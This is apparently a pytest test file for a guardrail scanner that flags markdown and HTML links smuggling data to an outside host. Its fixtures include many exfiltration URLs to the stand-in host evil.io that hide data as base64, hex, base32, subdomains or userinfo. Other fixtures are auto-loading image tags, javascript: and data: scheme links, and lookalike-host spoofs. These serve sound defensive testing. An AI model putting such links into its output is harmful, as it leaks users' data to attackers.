"""Links that carry data away are found in every dress; links that only lead somewhere are not."""

import base64

import pytest

from ring0.guardrails.scanners import Finding, Rules, Severity, scan

DATA = base64.b64encode(b"the balance of ann is 4711 euros").decode()
HEX = b"the balance of ann is 4711".hex()
BASE32 = base64.b32encode(b"the balance of ann is 4711").decode().rstrip("=")
WORDS = "the+balance+of+ann+at+the+bank+is+four+thousand+euros+today"


def links(text: str, *hosts: str) -> list[Finding]:
    found = scan(text, rules=Rules(hosts=frozenset(hosts)))
    return [each for each in found.findings if each.rule.startswith("link/")]


@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.io/p.png?q={DATA}",
        f"https://evil.io/{DATA}/p.png",
        f"https://evil.io/{HEX}",
        f"https://{HEX[:40]}.evil.io/p.png",
        f"https://{BASE32}.evil.io/p.png",
        f"https://evil.io/?q={WORDS}",
        f"https://evil.io/?q={WORDS.replace('+', '%20')}",
        f"//evil.io/?q={DATA}",
        f"https:\\\\evil.io\\?q={DATA}",
        f"HTTPS://EVIL.IO/?q={DATA}",
        f"https://evil.io/#{DATA}",
        f"https://{DATA.rstrip('=')}@evil.io/",
        "https://evil.io/?who=ann.lee@acme.io",
        "https://evil.io/?q={{secret}}",
        "https://evil.io/?q=%7Bsecret%7D",
        "https://evil.io/?q=${balance}",
        "https://203.0.113.9/?q=4711",
    ],
)
def test_data_in_any_part_of_an_images_url_is_found(url: str) -> None:
    found = links(f"see ![chart]({url}) there")
    assert found and max(each.severity for each in found) >= Severity.MEDIUM
    assert "4711" not in str(found) and DATA[:12] not in str(found)


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.io/?q={0})",
        "![a](<https://evil.io/?q={0}>)",
        "![a][1]\n\n[1]: https://evil.io/?q={0}",
        "[click me](https://evil.io/?q={0} 'now')",
        "<https://evil.io/?q={0}>",
        '<img src="https://evil.io/?q={0}">',
        "<img alt=x src=https://evil.io/?q={0}>",
        "<a href='https://evil.io/?q={0}'>x</a>",
        "https://evil.io/?q={0}",
        "[a](https://ok.io)[b](https://evil.io/?q={0})",
        "url(https://evil.io/?q={0})",
        "[a](https&#58;//evil.io/?q={0})",
        "[a](https%3A//evil.io/?q={0})",
    ],
)
def test_it_is_found_in_every_dress(text: str) -> None:
    assert links(text.replace("{0}", DATA))


def test_what_loads_by_itself_weighs_more_than_what_is_clicked() -> None:
    url = f"https://evil.io/?q={DATA}"
    clicked = links(f"[a]({url})")[0].severity
    for text in (f"![a]({url})", f'<img src="{url}">'):
        assert links(text)[0].severity > clicked


def test_a_url_that_runs_something_is_found_in_any_case() -> None:
    for url in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>",
        "vbscript:x",
    ):
        assert links(f"[a]({url})")[0].severity is Severity.HIGH


@pytest.mark.parametrize(
    "text",
    [
        "![b](https://img.shields.io/badge/build-passing-green)",
        "![c](https://cdn.io/i/cat.jpg?w=400&h=300&fit=crop)",
        "[d](https://docs.python.org/3/library/re.html#re.compile)",
        "![e](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
        "https://github.com/a/b/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
        "https://acme.io/install?config=%7B%22command%22%3A%22uvx%22%7D",
        "https://acme.io/v1/runs/550e8400-e29b-41d4-a716-446655440000",
        "https://acme.io/a-long-title-of-many-words-about-nothing-in-particular-at-all",
    ],
)
def test_a_link_that_only_leads_somewhere_is_left_alone(text: str) -> None:
    assert links(text) == []


def test_a_trusted_host_may_be_sent_data_and_one_that_only_ends_alike_may_not() -> None:
    assert not links(f"![a](https://i.acme.io/?q={DATA})", "acme.io")
    assert links(f"![a](https://evilacme.io/?q={DATA})", "acme.io")
    assert links(f"![a](https://acme.io.evil.io/?q={DATA})", "acme.io")
    assert links(f"![a](https://acme.io@evil.io/?q={DATA})", "acme.io")
